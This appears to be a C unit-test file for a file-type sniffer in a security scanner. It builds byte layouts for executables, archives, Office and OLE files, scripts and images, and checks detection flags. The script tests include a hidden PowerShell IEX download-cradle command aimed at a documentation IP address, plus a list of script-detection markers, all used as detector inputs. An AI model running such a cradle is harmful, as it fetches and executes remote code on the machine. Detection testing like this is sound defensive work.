/* test_filetype.c -- file types from hand-made byte layouts: a PE with and
 * without a certificate table, a DLL, a .NET assembly, ELF, Mach-O, a Java
 * class against a fat Mach-O, ZIPs typed from their central directory and,
 * cut short, from their local headers (executables, Office macros, OOXML,
 * JAR, APK, encryption), RAR4 file headers, OLE with a VBA project or the
 * MSI class id, RTF objects, LNK, scripts by their markers, HTA, HTML,
 * images, high-entropy bytes, random bytes against structured binary and
 * the file-name helpers. Each rule is
 * checked just short of its threshold and at it. */
#include "content/filetype.h"
#include "testing.h"

/* ---- a byte buffer ------------------------------------------------------ */

struct buf {
    uint8_t b[70000];
    size_t len;
};

static void put(struct buf *o, const void *d, size_t n)
{
    memcpy(o->b + o->len, d, n);
    o->len += n;
}
static void put_str(struct buf *o, const char *s) { put(o, s, strlen(s)); }
static void le16(struct buf *o, uint16_t v)
{
    uint8_t x[2] = { (uint8_t)v, (uint8_t)(v >> 8) };
    put(o, x, 2);
}
static void le32(struct buf *o, uint32_t v)
{
    le16(o, (uint16_t)v);
    le16(o, (uint16_t)(v >> 16));
}
static void set16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
}
static void set32(uint8_t *p, uint32_t v)
{
    set16(p, (uint16_t)v);
    set16(p + 2, (uint16_t)(v >> 16));
}

static struct buf B;
static struct file_type T;

static void sniff(const struct buf *o, uint64_t total)
{
    file_type_sniff(o->b, o->len, total, &T);
}

/* ---- PE ------------------------------------------------------------------ */

#define PE_AT 0x80

/* A PE32 (magic 0x10b) or PE32+ (0x20b) image header: characteristics
 * chars, and data directory 4 (certificate table) and 14 (CLR header) as
 * given. */
static void make_pe(struct buf *o, uint16_t magic, uint16_t chars,
                    uint32_t cert_va, uint32_t cert_size, uint32_t clr_va,
                    uint32_t clr_size)
{
    memset(o, 0, sizeof(*o));
    o->len = 1024;
    uint8_t *b = o->b;
    b[0] = 'M', b[1] = 'Z';
    set32(b + 0x3c, PE_AT);
    memcpy(b + PE_AT, "PE\0\0", 4);
    uint8_t *coff = b + PE_AT + 4;
    set16(coff, magic == 0x20b ? 0x8664 : 0x14c); /* machine */
    uint16_t opt_size = magic == 0x20b ? 240 : 224;
    set16(coff + 16, opt_size);
    set16(coff + 18, chars);
    uint8_t *opt = coff + 20;
    set16(opt, magic);
    size_t nd = magic == 0x20b ? 108 : 92;  /* NumberOfRvaAndSizes */
    set32(opt + nd, 16);
    uint8_t *dirs = opt + nd + 4;
    set32(dirs + 4 * 8, cert_va);
    set32(dirs + 4 * 8 + 4, cert_size);
    set32(dirs + 14 * 8, clr_va);
    set32(dirs + 14 * 8 + 4, clr_size);
}

static void test_pe_signed_only_with_a_certificate_table(void)
{
    /* an EXE (0x0102) without a certificate table */
    make_pe(&B, 0x10b, 0x0102, 0, 0, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, 0);
    CHECK(file_type_is_executable(&T));
    /* the entry half filled is no table: an offset without a size, a size
     * without an offset */
    make_pe(&B, 0x10b, 0x0102, 0x2000, 0, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    make_pe(&B, 0x10b, 0x0102, 0, 0x400, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    /* both: signed */
    make_pe(&B, 0x10b, 0x0102, 0x2000, 0x400, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, FT_SIGNED);
    /* the same in a PE32+ (its directories sit 16 bytes further) */
    make_pe(&B, 0x20b, 0x0022, 0x3000, 0x800, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, FT_SIGNED);
    make_pe(&B, 0x20b, 0x0022, 0, 0, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
}

static void test_pe_dll_and_dotnet_flags(void)
{
    make_pe(&B, 0x10b, 0x2102, 0, 0, 0, 0);      /* IMAGE_FILE_DLL */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, FT_DLL);
    make_pe(&B, 0x10b, 0x1102, 0, 0, 0, 0);      /* the bit below: a system file */
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    make_pe(&B, 0x10b, 0x0102, 0, 0, 0x2008, 0x48); /* a CLR header */
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_DOTNET);
    make_pe(&B, 0x20b, 0x2022, 0x5000, 0x100, 0x2008, 0x48);
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_DLL | FT_SIGNED | FT_DOTNET);
    /* an unknown optional-header magic: a PE, but no directories read */
    make_pe(&B, 0x107, 0x2102, 0x5000, 0x100, 0, 0);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, FT_DLL);
}

static void test_mz_without_pe_header_is_no_pe(void)
{
    make_pe(&B, 0x10b, 0x0102, 0, 0, 0, 0);
    B.b[PE_AT + 1] = 'X';                         /* "PX\0\0" */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    CHECK_EQ(T.flags, 0);
    CHECK(!file_type_is_executable(&T));
    /* e_lfanew pointing past the bytes kept */
    make_pe(&B, 0x10b, 0x0102, 0, 0, 0, 0);
    set32(B.b + 0x3c, 5000);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    /* cut 24 bytes after "PE": still a PE (the COFF header is there) */
    make_pe(&B, 0x10b, 0x2102, 0, 0, 0, 0);
    B.len = PE_AT + 24;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pe);
    CHECK_EQ(T.flags, FT_DLL);
    B.len = PE_AT + 23;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
}

/* ---- other executables ---------------------------------------------------- */

static void test_elf_macho_and_java_class_vs_fat_macho(void)
{
    memset(&B, 0, sizeof(B));
    put(&B, "\x7f" "ELF\x02\x01\x01\x00", 8);
    B.len = 64;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_elf);
    CHECK(file_type_is_executable(&T));
    memset(&B, 0, sizeof(B));
    put(&B, "\xcf\xfa\xed\xfe\x07\x00\x00\x01", 8);  /* 64-bit, little-endian */
    B.len = 64;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_macho);
    /* 0xCAFEBABE then a big-endian word: an architecture count below 20
     * (fat Mach-O), a class file's version from 20 */
    memset(&B, 0, sizeof(B));
    put(&B, "\xca\xfe\xba\xbe\x00\x00\x00\x13", 8);  /* 19 */
    B.len = 64;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_macho);
    B.b[7] = 0x14;                                  /* 20 */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_java_class);
    B.b[7] = 0x34;                                  /* Java 8: 0.52 */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_java_class);
    CHECK(file_type_is_executable(&T));
    /* the magic alone, no version: unknown */
    B.len = 7;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
}

static void test_lnk_needs_its_whole_header_and_class_id(void)
{
    static const uint8_t lnk[20] = { 0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0,
                                     0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
    memset(&B, 0, sizeof(B));
    put(&B, lnk, sizeof(lnk));
    B.len = 76;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_lnk);
    CHECK(file_type_is_executable(&T));
    B.b[19] = 0x47;                                 /* one byte of the CLSID off */
    sniff(&B, 0);
    CHECK(T.kind != FILE_KIND_lnk);
}

/* ---- ZIP ----------------------------------------------------------------- */

struct zentry {
    const char *name;
    const char *data;
    uint16_t flags;        /* 1: encrypted, 8: sizes in a data descriptor */
    uint32_t local_off;
};

/* Local headers (with their data, and a data descriptor when flag 8 is
 * set: the local header then says 0 bytes), the central directory and the
 * end record, as a ZIP writer lays them out. */
static void make_zip(struct buf *o, struct zentry *e, int n, bool central)
{
    memset(o, 0, sizeof(*o));
    for (int i = 0; i < n; i++) {
        uint16_t nl = (uint16_t)strlen(e[i].name);
        uint32_t dl = (uint32_t)strlen(e[i].data);
        bool dd = e[i].flags & 8;
        e[i].local_off = (uint32_t)o->len;
        le32(o, 0x04034b50);
        le16(o, 20);
        le16(o, e[i].flags);
        le16(o, 0);            /* stored */
        le16(o, 0);
        le16(o, 0);
        le32(o, 0);            /* crc */
        le32(o, dd ? 0 : dl);
        le32(o, dd ? 0 : dl);
        le16(o, nl);
        le16(o, 0);
        put(o, e[i].name, nl);
        put(o, e[i].data, dl);
        if (dd) {
            le32(o, 0x08074b50);
            le32(o, 0);
            le32(o, dl);
            le32(o, dl);
        }
    }
    if (!central)
        return;
    uint32_t cd = (uint32_t)o->len;
    for (int i = 0; i < n; i++) {
        uint16_t nl = (uint16_t)strlen(e[i].name);
        uint32_t dl = (uint32_t)strlen(e[i].data);
        le32(o, 0x02014b50);
        le16(o, 20);           /* made by */
        le16(o, 20);           /* needed */
        le16(o, e[i].flags);
        le16(o, 0);            /* method */
        le16(o, 0);            /* time */
        le16(o, 0);            /* date */
        le32(o, 0);            /* crc */
        le32(o, dl);
        le32(o, dl);
        le16(o, nl);
        le16(o, 0);            /* extra */
        le16(o, 0);            /* comment */
        le16(o, 0);            /* disk */
        le16(o, 0);            /* internal attributes */
        le32(o, 0);            /* external attributes */
        le32(o, e[i].local_off);
        put(o, e[i].name, nl);
    }
    uint32_t cd_size = (uint32_t)o->len - cd;
    le32(o, 0x06054b50);
    le16(o, 0);
    le16(o, 0);
    le16(o, (uint16_t)n);
    le16(o, (uint16_t)n);
    le32(o, cd_size);
    le32(o, cd);
    le16(o, 0);
}

static void test_zip_central_directory_lists_every_entry(void)
{
    /* a streamed ZIP: every local header says 0 bytes (the sizes follow the
     * data), so only the central directory can list past the first entry */
    struct zentry e[] = {
        { "readme.txt", "hello, this is a readme", 8, 0 },
        { "tools/a.exe", "MZ not really", 8, 0 },
        { "b.dll", "MZ neither", 8, 0 },
    };
    make_zip(&B, e, 3, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    CHECK_EQ(T.flags, FT_HOLDS_EXEC);
    CHECK_STR(T.inner, "tools/a.exe");         /* the first executable listed */
    CHECK(file_type_is_executable(&T));
    /* the same entries without an executable among them */
    struct zentry plain[] = {
        { "readme.txt", "hello, this is a readme", 8, 0 },
        { "a.exe.txt", "not code", 8, 0 },
        { "image.bin", "bin alone is not code", 8, 0 },
    };
    make_zip(&B, plain, 3, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    CHECK_EQ(T.flags, 0);
    CHECK_STR(T.inner, "");
    CHECK(!file_type_is_executable(&T));
}

static void test_zip_office_macros_jar_and_apk(void)
{
    struct zentry docx[] = {
        { "[Content_Types].xml", "<Types/>", 0, 0 },
        { "word/document.xml", "<w:document/>", 0, 0 },
    };
    make_zip(&B, docx, 2, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_ooxml);
    CHECK_EQ(T.flags, 0);
    CHECK(!file_type_is_executable(&T));
    struct zentry docm[] = {
        { "[Content_Types].xml", "<Types/>", 0, 0 },
        { "word/document.xml", "<w:document/>", 0, 0 },
        { "word/vbaProject.bin", "\xd0\xcf\x11\xe0", 0, 0 },
    };
    make_zip(&B, docm, 3, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_ooxml);
    CHECK_EQ(T.flags, FT_MACRO);
    CHECK(file_type_is_executable(&T));
    struct zentry jar[] = {
        { "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", 0, 0 },
        { "a/Main.class", "\xca\xfe\xba\xbe", 0, 0 },
    };
    make_zip(&B, jar, 2, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_jar);
    CHECK(file_type_is_executable(&T));
    /* a manifest under another name is no JAR */
    struct zentry notjar[] = { { "META-INF/MANIFEST.TXT", "x", 0, 0 } };
    make_zip(&B, notjar, 1, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    /* an APK carries a manifest too, either order */
    struct zentry apk[] = {
        { "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", 0, 0 },
        { "classes.dex", "dex\n035", 0, 0 },
        { "META-INF/CERT.SF", "x", 0, 0 },
    };
    make_zip(&B, apk, 3, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_apk);
    struct zentry apk2[] = {
        { "AndroidManifest.xml", "\x03\x00", 0, 0 },
        { "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", 0, 0 },
    };
    make_zip(&B, apk2, 2, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_apk);
}

static void test_zip_cut_short_falls_back_to_local_headers(void)
{
    struct zentry e[] = {
        { "[Content_Types].xml", "<Types/>", 0, 0 },
        { "word/vbaProject.bin", "\xd0\xcf\x11\xe0", 0, 0 },
        { "a.exe", "MZ", 0, 0 },
        { "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", 0, 0 },
    };
    make_zip(&B, e, 4, true);
    size_t whole = B.len;
    /* the beginning only (the central directory was not kept): each local
     * header that is there is read */
    B.len = e[3].local_off + 30 + 20;               /* the 4th header and its name */
    sniff(&B, whole);
    CHECK_EQ(T.kind, FILE_KIND_jar);                /* the manifest came last */
    CHECK_EQ(T.flags, FT_MACRO | FT_HOLDS_EXEC);
    CHECK_STR(T.inner, "a.exe");
    /* one header fewer: no manifest seen, still Office with macros */
    B.len = e[3].local_off;
    sniff(&B, whole);
    CHECK_EQ(T.kind, FILE_KIND_ooxml);
    CHECK_EQ(T.flags, FT_MACRO | FT_HOLDS_EXEC);
    /* the third header cut inside its name: not listed */
    B.len = e[2].local_off + 30 + 4;                /* "a.ex" */
    sniff(&B, whole);
    CHECK_EQ(T.kind, FILE_KIND_ooxml);
    CHECK_EQ(T.flags, FT_MACRO);
    CHECK_STR(T.inner, "");
    /* a streamed entry (sizes after its data) stops the walk after it */
    struct zentry s[] = {
        { "x.txt", "abc", 8, 0 },
        { "a.exe", "MZ", 0, 0 },
    };
    make_zip(&B, s, 2, false);
    sniff(&B, B.len + 100);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    CHECK_EQ(T.flags, 0);
    s[0].flags = 0;
    make_zip(&B, s, 2, false);
    sniff(&B, B.len + 100);
    CHECK_EQ(T.flags, FT_HOLDS_EXEC);
    CHECK_STR(T.inner, "a.exe");
    /* a whole file without an end record: the local headers too */
    make_zip(&B, s, 2, false);
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_HOLDS_EXEC);
}

static void test_zip_encrypted_entries(void)
{
    struct zentry e[] = {
        { "doc.txt", "plain", 0, 0 },
        { "secret.txt", "xxxxxxxxxxxxxxxx", 1, 0 },
    };
    make_zip(&B, e, 2, true);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    CHECK_EQ(T.flags, FT_ENCRYPTED);
    e[1].flags = 0;
    make_zip(&B, e, 2, true);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    e[1].flags = 1;
    make_zip(&B, e, 2, false);
    sniff(&B, B.len * 2);
    CHECK_EQ(T.flags, FT_ENCRYPTED);
}

/* ---- RAR ----------------------------------------------------------------- */

/* A RAR 4 archive: the marker, the archive header (flags mflags) and one
 * file header per name with its packed data. */
static void rar_file(struct buf *o, const char *name, uint16_t flags,
                     const char *data)
{
    uint16_t nl = (uint16_t)strlen(name);
    uint32_t dl = (uint32_t)strlen(data);
    le16(o, 0);                                 /* crc */
    put(o, "\x74", 1);
    le16(o, (uint16_t)(0x8000 | flags));
    le16(o, (uint16_t)(7 + 25 + nl));
    le32(o, dl);                                /* PACK_SIZE (ADD_SIZE) */
    le32(o, dl);                                /* UNP_SIZE */
    put(o, "\x02", 1);                          /* HOST_OS: Windows */
    le32(o, 0);                                 /* FILE_CRC */
    le32(o, 0);                                 /* FTIME */
    put(o, "\x1d\x30", 2);                      /* UNP_VER, METHOD (store) */
    le16(o, nl);
    le32(o, 0x20);                              /* ATTR */
    put(o, name, nl);
    put(o, data, dl);
}

static void rar_start(struct buf *o, uint16_t mflags)
{
    memset(o, 0, sizeof(*o));
    put(o, "Rar!\x1a\x07\x00", 7);
    le16(o, 0);
    put(o, "\x73", 1);
    le16(o, mflags);
    le16(o, 13);
    put(o, "\0\0\0\0\0\0", 6);
}

static void test_rar4_lists_its_file_headers(void)
{
    rar_start(&B, 0);
    rar_file(&B, "readme.txt", 0, "some packed bytes here");
    rar_file(&B, "payload\\invoice.scr", 0, "MZ");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_rar);
    CHECK_EQ(T.flags, FT_HOLDS_EXEC);
    CHECK_STR(T.inner, "payload\\invoice.scr");
    CHECK(file_type_is_executable(&T));
    rar_start(&B, 0);
    rar_file(&B, "readme.txt", 0, "some packed bytes here");
    rar_file(&B, "invoice.pdf", 0, "%PDF");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_rar);
    CHECK_EQ(T.flags, 0);
    CHECK(!file_type_is_executable(&T));
    /* an encrypted entry; encrypted headers hide the names */
    rar_start(&B, 0);
    rar_file(&B, "a.exe", 0x04, "xx");
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_HOLDS_EXEC | FT_ENCRYPTED);
    rar_start(&B, 0x80);
    rar_file(&B, "a.exe", 0, "xx");
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_ENCRYPTED);
    /* RAR 5: typed, not listed */
    memset(&B, 0, sizeof(B));
    put(&B, "Rar!\x1a\x07\x01\x00", 8);
    put_str(&B, "a.exe");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_rar);
    CHECK_EQ(T.flags, 0);
}

/* ---- OLE, RTF ------------------------------------------------------------- */

static void make_ole(struct buf *o)
{
    memset(o, 0, sizeof(*o));
    put(o, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    o->len = 2048;
}

static void put_utf16(uint8_t *at, const char *s)
{
    for (size_t i = 0; s[i]; i++) {
        at[2 * i] = (uint8_t)s[i];
        at[2 * i + 1] = 0;
    }
}

static void test_ole_vba_project_and_msi_class_id(void)
{
    make_ole(&B);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_ole);
    CHECK_EQ(T.flags, 0);
    CHECK(!file_type_is_executable(&T));
    /* directory entry names are UTF-16: the ASCII name is not one */
    memcpy(B.b + 0x400, "_VBA_PROJECT", 12);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    make_ole(&B);
    put_utf16(B.b + 0x480, "_VBA_PROJEC");          /* one letter short */
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    put_utf16(B.b + 0x480, "_VBA_PROJECT");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_ole);
    CHECK_EQ(T.flags, FT_MACRO);
    CHECK(file_type_is_executable(&T));
    /* the root entry's class id: an installer (no macro question asked) */
    static const uint8_t msi[16] = { 0x84, 0x10, 0x0c, 0x00, 0, 0, 0, 0,
                                     0xc0, 0, 0, 0, 0, 0, 0, 0x46 };
    make_ole(&B);
    memcpy(B.b + 0x450, msi, sizeof(msi));
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_msi);
    CHECK(file_type_is_executable(&T));
    B.b[0x450] = 0x85;                              /* another class */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_ole);
}

static void test_rtf_objects(void)
{
    memset(&B, 0, sizeof(B));
    put_str(&B, "{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard Hello\\par}");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_rtf);
    CHECK_EQ(T.flags, 0);
    CHECK(!file_type_is_executable(&T));
    memset(&B, 0, sizeof(B));
    put_str(&B, "{\\rtf1{\\object\\objemb{\\*\\OBJDATA 01050000020000000b000000}}}");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_rtf);
    CHECK_EQ(T.flags, FT_MACRO);
    CHECK(file_type_is_executable(&T));
}

/* ---- text ---------------------------------------------------------------- */

static void text(const char *s)
{
    memset(&B, 0, sizeof(B));
    put_str(&B, s);
    sniff(&B, 0);
}

static void test_scripts_need_two_markers_or_a_shebang(void)
{
    /* one marker: text (an admin's notes) */
    text("Remember: run powershell.exe as administrator before the update.\n");
    CHECK_EQ(T.kind, FILE_KIND_text);
    CHECK(!file_type_is_executable(&T));
    /* two: a script */
    text("Remember: run powershell.exe as administrator, then Start-Process.\n");
    CHECK_EQ(T.kind, FILE_KIND_script);
    CHECK(file_type_is_executable(&T));
    text("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
         "DownloadString('http://198.51.100.7/a')\"");
    CHECK_EQ(T.kind, FILE_KIND_script);
    text("var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc\");");
    CHECK_EQ(T.kind, FILE_KIND_script);
    text("var s = new ActiveXObject(\"Shell.Foo\"); s.Run(\"calc\");");
    CHECK_EQ(T.kind, FILE_KIND_text);
    /* a shebang alone */
    text("#!perl\nprint 1;\n");
    CHECK_EQ(T.kind, FILE_KIND_script);
    text("# perl\nprint 1;\n");
    CHECK_EQ(T.kind, FILE_KIND_text);
    text("hello world\n");
    CHECK_EQ(T.kind, FILE_KIND_text);
    CHECK_EQ(T.flags, 0);
}

/* Every script marker is found wherever it lies -- first bytes, last
 * bytes, any alignment of the search's window, any case -- beside a
 * second one, in filler that holds none ("-- " sets no marker off). */
static void test_markers_are_found_anywhere(void)
{
    static const char *const markers[] = {
        "iex(", "iex (", "frombase64string", "wscript.shell", "@echo off",
        "cmd /c", "mshta", "chmod +x", "curl http", "-encodedcommand",
    };
    const size_t n_markers = sizeof(markers) / sizeof(markers[0]);
    for (size_t k = 0; k < n_markers; k++) {
        for (size_t lead = 0; lead < 7; lead++) {
            for (int at_end = 0; at_end < 2; at_end++) {
                memset(&B, 0, sizeof(B));
                for (size_t i = 0; i < lead; i++)
                    put_str(&B, "-");
                const char *other = markers[(k + 1) % n_markers];
                char up[32];
                size_t m = strlen(markers[k]);
                for (size_t i = 0; i <= m; i++) /* upper case: folded */
                    up[i] = (char)(i % 2 && markers[k][i] >= 'a' && markers[k][i] <= 'z'
                                       ? markers[k][i] - 32 : markers[k][i]);
                put_str(&B, at_end ? other : up);
                put_str(&B, " -- -- ");
                put_str(&B, at_end ? up : other);
                sniff(&B, 0);
                CHECK_EQ(T.kind, FILE_KIND_script);
                B.len -= 1; /* the last marker cut by a byte: one is left */
                sniff(&B, 0);
                CHECK_EQ(T.kind, FILE_KIND_text);
            }
        }
    }
}

static void test_hta_html_and_images(void)
{
    text("<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"></head>"
         "<body></body></html>");
    CHECK_EQ(T.kind, FILE_KIND_hta);
    CHECK(file_type_is_executable(&T));
    text("\xef\xbb\xbf \r\n  <!DOCTYPE html><html><body>hi</body></html>");
    CHECK_EQ(T.kind, FILE_KIND_html);
    CHECK(!file_type_is_executable(&T));
    text("x <html><body>hi</body></html>");      /* not where it starts */
    CHECK_EQ(T.kind, FILE_KIND_text);
    memset(&B, 0, sizeof(B));
    put(&B, "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_image);
    memset(&B, 0, sizeof(B));
    put(&B, "GIF89a\x01\x00\x01\x00", 10);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_image);
    /* BMP: "BM" and a DIB header size of 12..124 */
    memset(&B, 0, sizeof(B));
    put_str(&B, "BM");
    B.len = 64;
    B.b[14] = 40;
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_image);
    B.b[14] = 125;
    sniff(&B, 0);
    CHECK(T.kind != FILE_KIND_image);
    memset(&B, 0, sizeof(B));
    put_str(&B, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_pdf);
    memset(&B, 0, sizeof(B));
    B.len = 0x8006;
    memcpy(B.b + 0x8001, "CD001", 5);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_iso);
    B.len = 0x8005;
    sniff(&B, 0);
    CHECK(T.kind != FILE_KIND_iso);
}

/* k distinct byte values (0 .. k-1), each 20 times: entropy log2(k) */
static void spread(unsigned k, unsigned reps)
{
    memset(&B, 0, sizeof(B));
    for (unsigned r = 0; r < reps; r++)
        for (unsigned v = 0; v < k; v++)
            B.b[B.len++] = (uint8_t)v;
}

static void test_high_entropy_above_7_2_bits(void)
{
    spread(147, 20);                  /* log2(147) = 7.1997 */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    CHECK_EQ(T.flags, 0);
    spread(148, 20);                  /* log2(148) = 7.2095 */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    CHECK_EQ(T.flags, FT_HIGH_ENTROPY);
    CHECK(!file_type_is_executable(&T));
    /* fewer than 256 bytes are never judged */
    spread(255, 1);
    sniff(&B, 0);
    CHECK_EQ(T.flags, 0);
    spread(256, 1);
    sniff(&B, 0);
    CHECK_EQ(T.flags, FT_HIGH_ENTROPY);
    /* random bytes (a fixed xorshift stream) */
    memset(&B, 0, sizeof(B));
    uint32_t x = 2463534242u;
    for (int i = 0; i < 8192; i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        B.b[B.len++] = (uint8_t)(x >> 11);
    }
    B.b[0] = 0x00, B.b[1] = 0x01;     /* no magic by chance */
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    CHECK_EQ(T.flags, FT_HIGH_ENTROPY);
}

/* n bytes of a fixed xorshift stream into B */
static void xorshift_bytes(size_t n)
{
    memset(&B, 0, sizeof(B));
    uint32_t x = 2463534242u;
    for (size_t i = 0; i < n; i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        B.b[B.len++] = (uint8_t)(x >> 11);
    }
}

/* Random bytes look random at every length from 256 bytes; bytes with a
 * structure (every fourth one zero, a header of 64 zero bytes, the
 * 148-value spread that passes the 7.2-bit FT_HIGH_ENTROPY mark) do not. */
static void test_random_bytes_against_structured_binary(void)
{
    static const size_t lengths[] = { 256, 300, 1000, 4096, 8192 };
    for (size_t i = 0; i < sizeof(lengths) / sizeof(lengths[0]); i++) {
        xorshift_bytes(lengths[i]);
        CHECK(file_bytes_look_random(B.b, B.len));
    }
    xorshift_bytes(255);
    CHECK(!file_bytes_look_random(B.b, B.len)); /* too few to tell */
    xorshift_bytes(8192);
    for (size_t i = 0; i < B.len; i += 4)
        B.b[i] = 0;
    CHECK(!file_bytes_look_random(B.b, B.len));
    xorshift_bytes(8192);
    memset(B.b, 0, 64);
    CHECK(!file_bytes_look_random(B.b, B.len));
    spread(148, 20);
    CHECK(!file_bytes_look_random(B.b, B.len));
    CHECK(file_entropy(B.b, B.len) > 7.2);
    CHECK(file_entropy(B.b, 0) == 0);
}

/* ---- names --------------------------------------------------------------- */

static void test_file_name_helpers(void)
{
    char ext[16];
    file_name_extension("invoice.PDF", ext, sizeof(ext));
    CHECK_STR(ext, "pdf");
    file_name_extension("/dl/setup.EXE?x=a.png#frag", ext, sizeof(ext));
    CHECK_STR(ext, "exe");
    file_name_extension("archive.tar.gz", ext, sizeof(ext));
    CHECK_STR(ext, "gz");
    file_name_extension("v1.2/README", ext, sizeof(ext));
    CHECK_STR(ext, "");
    file_name_extension("C:\\dir.d\\file", ext, sizeof(ext));
    CHECK_STR(ext, "");
    file_name_extension("", ext, sizeof(ext));
    CHECK_STR(ext, "");
    CHECK(file_name_is_executable("Setup.EXE"));
    CHECK(file_name_is_executable("run.ps1"));
    CHECK(file_name_is_executable("/x/y/a.hta?download=1"));
    CHECK(file_name_is_executable("a.js"));
    CHECK(!file_name_is_executable("a.json"));
    CHECK(!file_name_is_executable("a.exe.txt"));
    CHECK(!file_name_is_executable("exe"));
    CHECK(!file_name_is_executable("firmware.bin"));
    CHECK(!file_name_is_executable("disk.iso"));
    CHECK(!file_name_is_executable("disk.img"));
    CHECK(!file_name_is_executable("link.url"));
    CHECK(!file_name_is_executable("setup.inf"));
    CHECK_STR(file_kind_names[FILE_KIND_ooxml], "ooxml");
    CHECK_STR(file_kind_what[FILE_KIND_pe], "Windows executable (PE)");
}

static void test_empty_and_tiny_buffers(void)
{
    file_type_sniff((const uint8_t *)"", 0, 0, &T);
    CHECK_EQ(T.kind, FILE_KIND_unknown);
    CHECK_EQ(T.flags, 0);
    memset(&B, 0, sizeof(B));
    put(&B, "PK\3\4", 4);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_zip);
    CHECK_EQ(T.flags, 0);
    memset(&B, 0, sizeof(B));
    put(&B, "MZ", 2);
    sniff(&B, 0);
    CHECK_EQ(T.kind, FILE_KIND_text);            /* two printable bytes */
    CHECK_EQ(T.flags, 0);
}

TEST_LIST(test_pe_signed_only_with_a_certificate_table, test_pe_dll_and_dotnet_flags,
          test_mz_without_pe_header_is_no_pe, test_elf_macho_and_java_class_vs_fat_macho,
          test_lnk_needs_its_whole_header_and_class_id,
          test_zip_central_directory_lists_every_entry, test_zip_office_macros_jar_and_apk,
          test_zip_cut_short_falls_back_to_local_headers, test_zip_encrypted_entries,
